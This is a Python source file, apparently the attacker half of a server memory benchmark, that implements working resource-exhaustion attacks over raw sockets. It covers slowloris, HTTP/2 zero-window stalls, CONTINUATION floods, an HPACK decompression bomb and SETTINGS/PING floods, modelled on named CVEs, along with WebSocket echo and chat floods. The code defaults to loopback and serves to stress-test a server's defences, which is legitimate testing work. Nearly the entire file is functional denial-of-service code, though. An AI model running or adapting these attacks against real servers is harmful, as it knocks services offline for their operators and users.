#!/usr/bin/env python3
"""bench/attack_client.py — the attacker of bench/attack-memory.sh.

Opens N connections to one server (from several 127.0.0.x source
addresses) and makes each do one thing that tries to make the server hold
memory, then keeps them open, reading nothing (or, on HTTP/2, reading and
discarding frames only to answer SETTINGS and PING and to learn windows),
until it is told to stop. Raw sockets and hand-made frames (standard
library only): every byte it sends is one it chose, and it counts them.

Modes (MODE argument):
  slowloris      HTTP/1.1: a request head of HEAD_BYTES that never ends (no
                 blank line), all sent at once.
  h2-stall       h2c: SETTINGS_INITIAL_WINDOW_SIZE=0, then STREAMS GETs /;
                 never a WINDOW_UPDATE, so no response body can be sent
                 (CVE-2019-9517's shape).
  h2-post        h2c: window 0 as above, then STREAMS POSTs /echo, each with
                 a body of BODY_BYTES sent as far as the server's windows
                 allow (its SETTINGS and WINDOW_UPDATEs are honoured); the
                 response (the echo) cannot be sent.
  h2-continuation  h2c: one HEADERS without END_HEADERS, then CONTINUATION
                 frames of distinct literal headers up to FLOOD_BYTES,
                 never END_HEADERS (CVE-2024-27316's shape).
  h2-hpack       h2c: an HPACK bomb: a 4,000-byte header put in the dynamic
                 table, then HEADERS blocks of one-byte references to it
                 (each 16 KiB block decodes to ~64 MB), new streams up to
                 FLOOD_BYTES.
  h2-settings    h2c: SETTINGS and PING frames, alternating, up to
                 FLOOD_BYTES, each owed an ACK, read by nobody
                 (CVE-2019-9512/9515's shape).
  ws-big         WebSocket /ws: one binary message of BODY_BYTES; its echo
                 is never read.
  ws-echo        WebSocket /ws: MESSAGES binary messages of MSG_BYTES; the
                 echoes are never read.
  ws-chat        WebSocket /ws/chat: N subscribers that never read; once all
                 are open, one more connection publishes MESSAGES text
                 messages of MSG_BYTES (the server sends each to all N).

Sockets that read nothing get SO_RCVBUF 4096 before connecting, so what
the server sends stays on the server's side (as with a client far away
with a small window) and is counted there.

Output: one line `READY {json}` on stdout once every connection has sent
all it meant to or stalled (no progress for STALL seconds: the server
stopped reading or its windows are shut) or was closed; then, on SIGTERM,
SIGINT or the deadline (HOLD seconds), it closes everything and prints
`DONE {json}`. JSON: opened, failed_connects, sent_bytes (bytes the
server's kernel acknowledged, TCP_INFO's tcpi_bytes_acked summed: what
reached the server, whatever it did with it), received_bytes,
closed_by_server (EOF or reset seen; only on connections that read),
goaways, resets (RST_STREAM received), ready_secs.

Usage: attack_client.py MODE HOST PORT --n N --source A-B [options]
"""

import argparse
import asyncio
import json
import os
import resource
import signal
import socket
import struct
import sys
import time

# ---------------------------------------------------------------- HTTP/2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
S_INITIAL_WINDOW_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT = 0x4, 0x2, 0x3
MAX_FRAME = 16384


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_int(value, prefix_bits, first=0):
    """HPACK integer (RFC 7541 5.1) with FIRST's high bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s


def literal_new_name(name, value, first=0x00):
    """Literal header field, new name (0x00: without indexing, 0x40: with)."""
    return bytes([first]) + hpack_str(name) + hpack_str(value)


# :authority as a literal without indexing (name index 1): nothing of ours
# enters the dynamic table but h2-hpack's bomb, which stays its entry 62.
AUTHORITY = b"\x01" + hpack_str(b"127.0.0.1")
GET_ROOT = b"\x82\x86\x84"  # :method GET, :scheme http, :path /


def post_echo_block():
    # :method POST (3), :scheme http (6), :path (4) literal without indexing.
    return b"\x83\x86" + b"\x04" + hpack_str(b"/echo") + AUTHORITY


class H2Reader:
    """Reads frames, answers SETTINGS and PING, tracks the send windows."""

    def __init__(self, conn):
        self.c = conn
        self.conn_window = 65535
        self.initial = 65535
        self.stream_windows = {}
        self.got_settings = asyncio.Event()
        self.changed = asyncio.Event()

    def window(self, sid):
        return min(self.conn_window, self.stream_windows.get(sid, self.initial))

    def spend(self, sid, n):
        self.conn_window -= n
        self.stream_windows[sid] = self.stream_windows.get(sid, self.initial) - n

    async def run(self, reader):
        buf = b""
        while True:
            try:
                chunk = await reader.read(65536)
            except (ConnectionError, OSError):
                chunk = b""
            if not chunk:
                self.c.closed()
                self.changed.set()
                return
            self.c.st["received_bytes"] += len(chunk)
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, flags = buf[3], buf[4]
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9:9 + length]
                buf = buf[9 + length:]
                self.on_frame(ftype, flags, sid, payload)

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                if k == S_INITIAL_WINDOW_SIZE:
                    delta = v - self.initial
                    self.initial = v
                    for s in self.stream_windows:
                        self.stream_windows[s] += delta
            self.c.write(frame(SETTINGS, ACK, 0))
            self.got_settings.set()
            self.changed.set()
        elif ftype == PING and not flags & ACK:
            self.c.write(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += inc
            else:
                self.stream_windows[sid] = self.stream_windows.get(sid, self.initial) + inc
            self.changed.set()
        elif ftype == GOAWAY:
            self.c.st["goaways"] += 1
        elif ftype == RST_STREAM:
            self.c.st["resets"] += 1
            self.stream_windows[sid] = -(1 << 40)  # no more DATA on it


# ---------------------------------------------------------------- plumbing


# struct tcp_info's tcpi_bytes_acked (u64): 8 bytes of u8 fields, 24 u32,
# then pacing_rate and max_pacing_rate (u64) before it (Linux 4.1+).
TCPI_BYTES_ACKED = 8 + 24 * 4 + 2 * 8


class Conn:
    """One attacker connection: its writer, and what it sent."""

    def __init__(self, st, writer, sock):
        self.st = st
        self.w = writer
        self.written = 0
        self.is_closed = False
        # A duplicate of the socket's descriptor: asyncio closes its own when
        # the server resets the connection, and this one still reads the
        # kernel's count of our bytes the server acknowledged.
        self.dup = sock.dup()

    def write(self, data):
        if self.is_closed or self.w.is_closing():
            return
        self.w.write(data)
        self.written += len(data)

    def sent(self):
        """Bytes the server's kernel acknowledged (received), from TCP_INFO."""
        try:
            info = self.dup.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 256)
            return struct.unpack_from("<Q", info, TCPI_BYTES_ACKED)[0]
        except OSError:
            return 0

    def abort(self):
        """Reset the connection (SO_LINGER 0), nothing left to linger."""
        try:
            self.dup.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        self.dup.close()
        try:
            self.w.transport.abort()
        except Exception:  # noqa: BLE001
            pass

    def stop_reading(self):
        """Leave what the server sends in the kernel (asyncio would read
        ahead into its own buffer otherwise)."""
        try:
            self.w.transport.pause_reading()
        except Exception:  # noqa: BLE001 — already closed
            pass

    def closed(self):
        if not self.is_closed:
            self.is_closed = True
            self.st["closed_by_server"] += 1

    async def flush(self, stall):
        """Drain; False when nothing moved for STALL seconds or it closed."""
        while True:
            if self.is_closed or self.w.is_closing():
                return False
            before = self.sent()
            try:
                await asyncio.wait_for(self.w.drain(), stall)
                return True
            except asyncio.TimeoutError:
                if self.sent() == before:
                    return False
            except (ConnectionError, OSError):
                self.closed()
                return False


def parse_source(spec):
    """'127.0.24.1-127.0.24.8' -> the addresses (last octet range)."""
    if "-" not in spec:
        return [spec]
    a, b = spec.split("-")
    pre = a.rsplit(".", 1)[0]
    return [f"{pre}.{i}" for i in range(int(a.rsplit(".", 1)[1]), int(b.rsplit(".", 1)[1]) + 1)]


async def open_conn(args, src, small_rcvbuf):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if small_rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((src, 0))
    s.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(s, (args.host, args.port))
    except OSError:
        s.close()
        raise
    reader, writer = await asyncio.open_connection(sock=s, limit=1 << 20)
    return reader, writer, s


async def ws_handshake(reader, conn, path):
    key = "dGhlIHNhbXBsZSBub25jZQ=="
    conn.write((f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
                f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    head = await reader.readuntil(b"\r\n\r\n")
    conn.st["received_bytes"] += len(head)
    if not head.startswith(b"HTTP/1.1 101"):
        raise ConnectionError("no 101: %r" % head[:80])


def ws_header(opcode, length):
    """A client frame header, FIN set, masked with the zero key (legal, and
    the payload goes out as it is)."""
    if length < 126:
        return bytes([0x80 | opcode, 0x80 | length]) + b"\0\0\0\0"
    if length < 65536:
        return bytes([0x80 | opcode, 0x80 | 126]) + struct.pack(">H", length) + b"\0\0\0\0"
    return bytes([0x80 | opcode, 0x80 | 127]) + struct.pack(">Q", length) + b"\0\0\0\0"


async def send_bulk(conn, total, chunk_bytes, stall):
    """Send TOTAL bytes of 'x' in chunks; stop at a stall or a close."""
    chunk = b"x" * chunk_bytes
    left = total
    while left > 0:
        n = min(left, chunk_bytes)
        conn.write(chunk[:n])
        left -= n
        if not await conn.flush(stall):
            return


# ---------------------------------------------------------------- modes


async def attack(args, conn, reader):
    """One connection's attack; returns when it has sent all or stalled."""
    mode = args.mode
    stall = args.stall
    if mode == "slowloris":
        conn.stop_reading()
        head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        i = 0
        while len(head) < args.head_bytes:
            line = b"X-Pad-%05d: " % i
            room = args.head_bytes - len(head) - len(line) - 2
            if room <= 0:
                break
            head += line + b"a" * min(room, args.line_bytes) + b"\r\n"
            i += 1
        conn.write(head)
        await conn.flush(stall)
        return None
    if mode.startswith("h2-"):
        h2 = H2Reader(conn)
        conn.write(PREFACE)
        if mode in ("h2-stall", "h2-post"):
            conn.write(settings([(S_ENABLE_PUSH, 0), (S_INITIAL_WINDOW_SIZE, 0)]))
        else:
            conn.write(settings([(S_ENABLE_PUSH, 0)]))
        if mode == "h2-settings":
            conn.stop_reading()
            # Never read: the ACKs owed pile up on the server's side.
            units = [settings([(S_MAX_CONCURRENT, 100)]), frame(PING, 0, 0, b"12345678")]
            batch = b"".join(units) * 512
            await send_bulk_pattern(conn, batch, args.flood_bytes, stall)
            return None
        task = asyncio.ensure_future(h2.run(reader))
        if mode == "h2-stall":
            for i in range(args.streams):
                conn.write(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, GET_ROOT + AUTHORITY))
            await conn.flush(stall)
        elif mode == "h2-post":
            await h2_post(args, conn, h2)
        elif mode == "h2-continuation":
            conn.write(frame(HEADERS, END_STREAM, 1, GET_ROOT + AUTHORITY))
            sent = 0
            k = 0
            while sent < args.flood_bytes:
                block = b""
                while len(block) < MAX_FRAME - 1100:
                    block += literal_new_name(b"x-c-%07d" % k, b"v" * 1000)
                    k += 1
                conn.write(frame(CONTINUATION, 0, 1, block))
                sent += 9 + len(block)
                if not await conn.flush(stall):
                    break
        elif mode == "h2-hpack":
            sid = 1
            sent = 0
            first = True
            while sent < args.flood_bytes:
                block = GET_ROOT + AUTHORITY
                if first:
                    # Into the dynamic table, where it is entry 62 (the only one).
                    block += literal_new_name(b"x-bomb", b"a" * 4000, 0x40)
                    first = False
                block += b"\xbe" * (MAX_FRAME - len(block))  # indexed 62, over and over
                conn.write(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
                sent += 9 + len(block)
                sid += 2
                if not await conn.flush(stall):
                    break
        return task
    if mode.startswith("ws-"):
        await ws_handshake(reader, conn, "/ws/chat" if mode == "ws-chat" else "/ws")
        conn.stop_reading()
    if mode == "ws-big":
        conn.write(ws_header(0x2, args.body_bytes))
        await send_bulk(conn, args.body_bytes, 256 << 10, stall)
        return None
    if mode == "ws-echo":
        msg = ws_header(0x2, args.msg_bytes) + b"x" * args.msg_bytes
        for _ in range(args.messages):
            conn.write(msg)
            if not await conn.flush(stall):
                break
        return None
    if mode == "ws-chat":
        return None
    raise SystemExit("unknown mode " + mode)


async def send_bulk_pattern(conn, batch, total, stall):
    sent = 0
    while sent < total:
        conn.write(batch)
        sent += len(batch)
        if not await conn.flush(stall):
            return


async def h2_post(args, conn, h2):
    try:
        await asyncio.wait_for(h2.got_settings.wait(), 5)
    except asyncio.TimeoutError:
        pass
    block = post_echo_block()
    left = {}
    for i in range(args.streams):
        sid = 2 * i + 1
        conn.write(frame(HEADERS, END_HEADERS, sid, block))
        left[sid] = args.body_bytes
    deadline_idle = time.monotonic() + args.stall
    while left and not conn.is_closed:
        progressed = False
        for sid in list(left):
            while left[sid] > 0:
                n = min(MAX_FRAME, left[sid], h2.window(sid))
                if n <= 0:
                    break
                left[sid] -= n
                h2.spend(sid, n)
                conn.write(frame(DATA, END_STREAM if left[sid] == 0 else 0, sid, b"x" * n))
                progressed = True
            if left[sid] == 0:
                del left[sid]
            elif h2.stream_windows.get(sid, 0) < -(1 << 30):
                del left[sid]  # reset by the server
        if not await conn.flush(args.stall):
            return
        if progressed:
            deadline_idle = time.monotonic() + args.stall
            continue
        wait = deadline_idle - time.monotonic()
        if wait <= 0:
            return  # the windows stayed shut: stalled
        h2.changed.clear()
        try:
            await asyncio.wait_for(h2.changed.wait(), wait)
        except asyncio.TimeoutError:
            return


# ---------------------------------------------------------------- main


async def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("mode")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--n", type=int, default=1000)
    ap.add_argument("--source", default="127.0.24.1-127.0.24.8")
    ap.add_argument("--head-bytes", type=int, default=60 << 10)
    ap.add_argument("--line-bytes", type=int, default=1000)
    ap.add_argument("--streams", type=int, default=250)
    ap.add_argument("--body-bytes", type=int, default=256 << 10)
    ap.add_argument("--flood-bytes", type=int, default=256 << 10)
    ap.add_argument("--messages", type=int, default=16)
    ap.add_argument("--msg-bytes", type=int, default=60000)
    ap.add_argument("--stall", type=float, default=1.0)
    ap.add_argument("--hold", type=float, default=120.0, help="give up after this many seconds")
    ap.add_argument("--attack-secs", type=float, default=30.0,
                    help="READY after this long even if some are still sending")
    ap.add_argument("--concurrency", type=int, default=200, help="connects under way at once")
    args = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.n + 256)), hard))
    st = {"mode": args.mode, "n": args.n, "opened": 0, "failed_connects": 0, "handshake_failed": 0,
          "sent_bytes": 0, "received_bytes": 0, "closed_by_server": 0, "goaways": 0, "resets": 0}
    sources = parse_source(args.source)
    t0 = time.monotonic()
    conns = []
    tasks = []
    gate = asyncio.Semaphore(args.concurrency)
    reads = args.mode in ("h2-stall", "h2-post", "h2-continuation", "h2-hpack")

    async def one(i):
        async with gate:
            try:
                reader, writer, sock = await open_conn(args, sources[i % len(sources)], not reads)
            except OSError:
                st["failed_connects"] += 1
                return
            st["opened"] += 1
            c = Conn(st, writer, sock)
            conns.append(c)
        try:
            t = await attack(args, c, reader)
            if t is not None:
                tasks.append(t)
        except (ConnectionError, OSError, asyncio.IncompleteReadError):
            st["handshake_failed"] += 1
            c.closed()

    workers = [asyncio.ensure_future(one(i)) for i in range(args.n)]
    _, late = await asyncio.wait(workers, timeout=args.attack_secs)
    st["still_sending"] = len(late)
    for w in late:
        w.cancel()  # its connection stays open
    if args.mode == "ws-chat":
        reader, writer, sock = await open_conn(args, sources[0], False)
        pub = Conn(st, writer, sock)
        conns.append(pub)
        await ws_handshake(reader, pub, "/ws/chat")

        async def drain_pub():  # the publisher reads its own copies
            while await reader.read(1 << 16):
                pass
        tasks.append(asyncio.ensure_future(drain_pub()))
        text = ws_header(0x1, args.msg_bytes) + b"x" * args.msg_bytes
        for _ in range(args.messages):
            pub.write(text)
            await pub.flush(args.stall)
    st["sent_bytes"] = sum(c.sent() for c in conns)
    st["ready_secs"] = round(time.monotonic() - t0, 3)
    print("READY " + json.dumps(st), flush=True)

    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    try:
        await asyncio.wait_for(stop.wait(), args.hold)
    except asyncio.TimeoutError:
        pass
    st["sent_bytes_at_end"] = sum(c.sent() for c in conns)
    for t in tasks:
        t.cancel()
    for c in conns:
        c.abort()
    print("DONE " + json.dumps(st), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
